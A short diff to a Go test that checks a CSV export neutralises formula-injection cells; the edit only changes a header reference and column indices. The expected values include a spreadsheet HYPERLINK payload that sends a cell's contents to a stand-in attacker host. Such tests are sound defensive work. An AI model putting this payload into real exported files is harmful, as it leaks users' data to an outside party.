@@ -302,10 +302,10 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 	}
 	for i, cell := range rows[1] {
 		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-			t.Errorf("column %s begins like a formula: %q", exportHeader[i], cell)
+			t.Errorf("column %s begins like a formula: %q", LedgerHeader()[i], cell)
 		}
 	}
-	if rows[1][2] != `'=HYPERLINK("http://evil.example/?x="&A1,"点击")` || rows[1][3] != "'+张三" {
+	if rows[1][3] != `'=HYPERLINK("http://evil.example/?x="&A1,"点击")` || rows[1][5] != "'+张三" {
 		t.Errorf("row = %q", rows[1])
 	}
 }
